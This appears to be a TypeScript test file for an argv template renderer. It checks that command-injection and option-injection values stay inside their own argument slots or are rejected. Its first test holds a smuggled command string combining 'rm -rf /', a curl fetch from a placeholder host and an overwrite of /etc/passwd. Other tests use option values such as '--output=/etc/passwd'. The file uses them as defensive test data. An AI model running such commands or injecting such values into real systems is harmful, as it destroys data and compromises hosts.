import { expectArsenalError } from '@arsenal/testkit';
import { describe, expect, it } from 'vitest';
import { renderArgv } from './argv-template.js';

const opts = { toolName: 'grep_logs' };

describe('argv templates', () => {
  it('keeps every value inside its own slot, shell syntax included', () => {
    const hostile = '; rm -rf / && $(curl evil) `id` | cat > /etc/passwd';
    expect(renderArgv(['-n', '{{pattern}}', 'file.log'], { pattern: hostile }, opts)).toEqual([
      '-n',
      hostile,
      'file.log',
    ]);
    expect(renderArgv(['--pattern={{pattern}}'], { pattern: 'a b c' }, opts)).toEqual([
      '--pattern=a b c',
    ]);
  });

  it('expands an array parameter into one slot per element and drops absent optional groups', () => {
    const template = ['-c', ['--max-count', '{{limit}}'], '{{files}}'];
    expect(renderArgv(template, { files: ['a.txt', 'b c.txt'] }, opts)).toEqual([
      '-c',
      'a.txt',
      'b c.txt',
    ]);
    expect(renderArgv(template, { files: ['a.txt'], limit: 5 }, opts)).toEqual([
      '-c',
      '--max-count',
      '5',
      'a.txt',
    ]);
  });

  it('refuses a value that would turn itself into an option, unless allowed', async () => {
    const error = await expectArsenalError(
      () => renderArgv(['{{pattern}}', 'file.log'], { pattern: '--output=/etc/passwd' }, opts),
      'invalid_argument',
    );
    expect(error.message).toContain('"pattern" starts with "-"');
    await expectArsenalError(
      () => renderArgv(['{{files}}'], { files: ['ok.txt', '-rf'] }, opts),
      'invalid_argument',
    );
    expect(
      renderArgv(['{{flags}}'], { flags: '-v' }, { ...opts, allowLeadingDash: ['flags'] }),
    ).toEqual(['-v']);
    // Inside a slot that already started, a dash is just text.
    expect(renderArgv(['--pattern={{pattern}}'], { pattern: '-x' }, opts)).toEqual([
      '--pattern=-x',
    ]);
  });

  it('refuses NUL bytes and objects, naming the parameter', async () => {
    const nul = await expectArsenalError(
      () => renderArgv(['{{name}}'], { name: 'a\u0000b' }, opts),
      'invalid_argument',
    );
    expect(nul.message).toContain('"name"');
    await expectArsenalError(
      () => renderArgv(['{{name}}'], { name: { nested: true } }, opts),
      'invalid_argument',
    );
  });
});
